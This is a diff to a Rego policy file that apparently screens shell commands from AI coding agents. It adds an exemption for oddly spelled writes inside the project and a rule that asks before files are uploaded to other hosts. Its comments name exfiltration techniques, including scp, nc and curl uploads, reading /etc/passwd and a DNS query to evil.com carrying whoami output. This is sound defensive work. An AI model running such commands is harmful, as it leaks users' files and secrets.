@@ -285,7 +285,25 @@ obfuscated_command_acts if {
 	some p in input.facts.paths
 	p.via == "shell"
 	p.access != "read"
+	not ordinary_write(p)
 }
+
+# Writing or creating an ordinary file of the project or a temporary folder (`b''ase64 -d x >
+# out.bin`, `P=xxd; $P -r dump.hex > out.bin`): an odd spelling of a harmless write is still a
+# harmless write (issue 11, benign precision). Deletes, permission changes and writes to
+# protected or outside locations still act.
+ordinary_write(p) if {
+	p.access in {"write", "create"}
+	some place in {"project", "temp"}
+	lib.has_class(p, place)
+	count([k | some k in p.classes; k in protected_write_classes]) == 0
+}
+
+# A committed env template copied into place is an ordinary write too (path/env-file is quiet on it).
+ordinary_write(p) if data.hookward.rules.paths.env_from_template(p)
+
+# Classes that make a write worth a question whatever its spelling.
+protected_write_classes := sensitive_read_classes | {"env_file", "agent_memory", "mcp_config", "security_tool_config"}
 
 obfuscated_command_acts if {
 	some p in input.facts.paths
@@ -415,6 +433,32 @@ decision contains {"id": "shell/secret-exfiltration", "decision": "deny", "reaso
 	secret_upload(u)
 	reason := sprintf("the command would send %s to %s (%s)", [u.source, u.target, u.evidence])
 }
+
+# @rule shell/upload-files ask
+# Files sent to another host (scp/rsync/sftp, an archive piped to nc or curl -T, curl -F/-T/-d @, wget --post-file, ftp/tftp/smbclient put, mail attachments, socat FILE:): the whole project or working folder, or a file outside the project and the temporary folders (/etc/passwd, ~/Documents/x). Secrets sent are shell/credential-exfiltration (deny); loopback targets are local.
+decision contains {"id": "shell/upload-files", "decision": "ask", "reason": reason} if {
+	some u in facts_of("uploads")
+	some p in input.facts.paths
+	p.via == "shell"
+	p.access == "read"
+	p.path == u.source
+	upload_worth_asking(p)
+	not local_target(u.target)
+	reason := sprintf("the command would send %s to %s (%s)", [p.path, u.target, u.evidence])
+}
+
+upload_worth_asking(p) if p.path == input.facts.project_dir
+
+upload_worth_asking(p) if p.path == object.get(input.facts, "cwd", "")
+
+upload_worth_asking(p) if {
+	lib.has_class(p, "outside_project")
+	not lib.has_class(p, "temp")
+	not lib.has_class(p, "tool_cache")
+}
+
+# A peer on this machine: loopback names and addresses, with or without scheme, user or port.
+local_target(t) if regex.match(`^(?:[a-zA-Z][a-zA-Z0-9+.-]*://)?(?:[^@/]*@)?(?:localhost|127\.[0-9.]+|\[?::1\]?|0\.0\.0\.0)(?:[:/]|$)`, t)
 
 # @rule shell/dns-exfiltration ask
 # A DNS query whose name carries data computed at run time (dig $(whoami).evil.com, nslookup $X.evil.com).
